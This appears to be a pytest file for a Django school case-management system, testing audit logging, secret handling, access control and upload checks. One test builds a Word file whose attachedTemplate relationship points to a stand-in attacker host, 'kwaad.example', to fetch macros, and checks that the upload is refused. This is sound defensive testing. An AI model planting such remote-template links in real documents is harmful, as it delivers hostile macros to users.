"""What left no trace, or too much of one: each test failed on the day it was written."""

import io
import zipfile
from datetime import timedelta

import pytest
from allauth.mfa.models import Authenticator
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.people import actions as people
from accounts.session_store import SessionStore
from accounts.sso import actions as sso
from audit.actions import settle
from audit.kinds import Kind
from audit.models import Flag, LogEntry, Look
from audit.unusual import look
from cases.files.content import look_at
from cases.files.kinds import Refused
from tests.cases.made_up_files import TYPES
from tests.factories import (
    CaseFactory,
    ConsultationFactory,
    IdentityProviderFactory,
    InvitationFactory,
    PupilFactory,
    RoleInvitationFactory,
)

pytestmark = pytest.mark.django_db


def test_resetting_a_second_factor_stands_in_the_trail(school, administrator, teacher):
    Authenticator.objects.create(user=teacher, type="totp", data={"secret": "x"})
    before = LogEntry.objects.count()
    people.reset_second_factor(school, administrator, teacher)
    assert LogEntry.objects.count() > before


def test_another_domain_or_secret_of_a_provider_stands_in_the_trail(
    school, administrator, monkeypatch
):
    monkeypatch.setattr(sso.discovery, "read", lambda issuer: {"issuer": issuer})
    provider = IdentityProviderFactory(school=school)
    provider.domains.create(domain="school.example")
    before = LogEntry.objects.count()
    sso.change(
        provider,
        administrator,
        kind="other",
        name=provider.name,
        location=provider.issuer,
        client_id=provider.client_id,
        client_secret="een ander geheim",
        domains=["school.example", "nog.example"],
    )
    assert LogEntry.objects.count() > before


def test_the_database_does_not_hold_the_secret_of_an_opened_invitation(school):
    RoleInvitationFactory(school=school, secret="geheim-van-de-mail")
    browser = Client()
    browser.get(reverse("people:open_invitation", args=["geheim-van-de-mail"]))
    kept = [SessionStore().decode(row.session_data) for row in Session.objects.all()]
    assert not any("geheim-van-de-mail" in str(data) for data in kept)


def test_a_settled_flag_does_not_cover_the_rest_of_the_day(school, coordinator, administrator):
    now = timezone.now().replace(hour=10, minute=0)
    Look.objects.create(pk=1, at=now - timedelta(days=1))

    def reads(first, count, at):
        for n in range(first, first + count):
            LogEntry.objects.log_create(
                coordinator,
                force_log=True,
                action=3,
                kind=Kind.READ,
                actor=coordinator,
                timestamp=at,
                case_reference=f"M-{n:06}",
                school_id=school.pk,
            )

    reads(0, 30, now - timedelta(minutes=10))
    look(now)
    reads(50, 10, now - timedelta(minutes=9))
    look(now)
    # What is settled is what the flag says by then, and not what it said at first.
    assert Flag.objects.get(rule="many_cases").count == 40
    settle(Flag.objects.get(rule="many_cases"), administrator, "Ze zocht iets op.")
    Flag.objects.settled().update(settled_at=now)
    later = now + timedelta(hours=3)
    reads(100, 300, later - timedelta(minutes=10))
    look(later)
    assert Flag.objects.standing().filter(rule="many_cases").exists()


def test_a_document_that_fetches_its_macros_from_elsewhere_is_refused():
    out = io.BytesIO()
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006'
        '/relationships/attachedTemplate" '
        'Target="http://kwaad.example/sjabloon.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/settings.xml.rels", rels)
    with pytest.raises(Refused):
        look_at(out)


def test_a_worker_does_not_learn_the_reference_of_a_case(school, family_worker, signed_in):
    case = CaseFactory(pupil=PupilFactory(school=school))
    asked = ConsultationFactory(case=case)
    InvitationFactory(
        consultation=asked,
        user=family_worker,
        buurtteam=school.buurtteam,
        accepted_at=timezone.now(),
    )
    browser = signed_in(family_worker)
    for url in (
        reverse("consultations:detail", args=[asked.reference]),
        reverse("consultations:inbox"),
        reverse("audit:mine"),
    ):
        assert case.reference not in browser.get(url).content.decode(), url


def test_an_administrator_sees_no_name_where_they_export(school, administrator, signed_in):
    case = CaseFactory(pupil=PupilFactory(school=school, given_name="Ties", family_name="Rozendal"))
    browser = signed_in(administrator)
    for url in (
        reverse("cases:dossier", args=[case.reference]),
        reverse("cases:exportable"),
        reverse("audit:school"),
    ):
        text = browser.get(url).content.decode()
        assert "Rozendal" not in text, url
        assert "Ties" not in text, url
